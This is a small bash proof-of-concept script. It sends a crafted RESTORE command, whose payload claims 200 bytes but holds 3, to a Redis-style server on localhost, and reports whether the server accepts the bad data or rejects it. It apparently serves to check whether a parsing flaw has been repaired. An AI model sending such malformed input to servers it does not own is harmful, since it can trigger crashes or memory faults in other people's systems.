#!/usr/bin/env bash
# prove.sh PORT: sends a RESTORE whose payload claims 200 bytes and holds 3, and prints the answer:
# "+OK" from a vulnerable server, "-ERR Bad data format" from a repaired one.
set -euo pipefail
exec 3<> "/dev/tcp/127.0.0.1/$1"
printf '*4\r\n$7\r\nRESTORE\r\n$5\r\nproof\r\n$1\r\n0\r\n$4\r\n\xc8abc\r\n' >&3
IFS= read -r -t 5 line <&3
printf '%s\n' "${line%$'\r'}"
